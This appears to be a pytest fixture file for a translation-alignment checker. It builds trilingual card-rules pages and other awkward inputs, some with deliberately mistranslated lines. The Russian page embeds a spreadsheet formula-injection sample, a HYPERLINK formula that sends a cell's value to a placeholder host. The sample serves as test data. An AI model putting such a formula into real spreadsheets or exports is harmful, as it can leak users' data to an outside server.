"""A run over pages that are hard to write down: markup, formulas, braces, spaces in names, a file that is not read."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from aligner import run
from aligner.config import Config
from aligner.results import Report

EN = """Lantern Keeper

12/02/2021

Put three +1/+1 counters on target creature. It's a 2/2 creature in addition to its other types.

12/02/2021

If you pay {4}{R}, the spell's flashback [cost] is zero.

13/04/2018

See rule 502.30, and [this note](1); 100% of the "targets" are <b>chosen</b> as you cast it.

13/04/2018

You may cast this card from your graveyard.

13/04/2018

Its mana cost is zero. A token has no mana cost.
"""
RU = """Хранитель фонаря

12/02/2021

Положите два жетона +1/1 на целевое существо. Оно является существом 2/2 в дополнение к своим другим типам.

12/02/2021

Если вы заплатите {4R}, воспоминание этого заклинания [cost] равно нулю.

13/04/2018

=HYPERLINK("http://example.invalid/?a="&A1;"нажмите")

13/04/2018

You may cast this card from your graveyard.

13/04/2018

Её мана-стоимость равна нулю. У фишки нет стоимости маны.
"""
JA = """ランタンの番人

12/02/2021

クリーチャー１体を対象とし、それの上に＋１/＋１カウンターを３個置く。

12/02/2021

あなたが{4}{R}を支払ったなら、この呪文のフラッシュバック[コスト]は０になる。

13/04/2018

あなたはあなたの墓地からこのカードを唱えてもよい。
"""


@pytest.fixture(scope="session")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with the pages."""
    folder = tmp_path_factory.mktemp("pages")
    pages = {
        "lantern keeper, 50%": {"en.txt": EN, "ru.txt": RU, "ja.txt": JA},
        "alone": {"en.txt": "Alone\n\n<script>\n"},
    }
    for name, files in pages.items():
        (folder / name).mkdir()
        for file, text in files.items():
            (folder / name / file).write_text(text, encoding="utf-8")
    (folder / "broken.tmx").write_text("<tmx><body>", encoding="utf-8")
    return folder


@pytest.fixture(scope="session")
def config() -> Config:
    return Config(encoder="none", shipped_glossary=True)


@pytest.fixture(scope="session")
def result(home: Path, config: Config) -> Report:
    """Return the run: of its findings one is known, and one ignored for a reason."""
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(home)
        found = run.check(["."], config)
    statuses = {0: "known", 1: "ignored"}
    findings = tuple(replace(one, status=statuses.get(n, "new")) for n, one in enumerate(found.findings))
    return replace(found, findings=findings, reasons={findings[1].fingerprint: "the card is <named> so: {X}"})
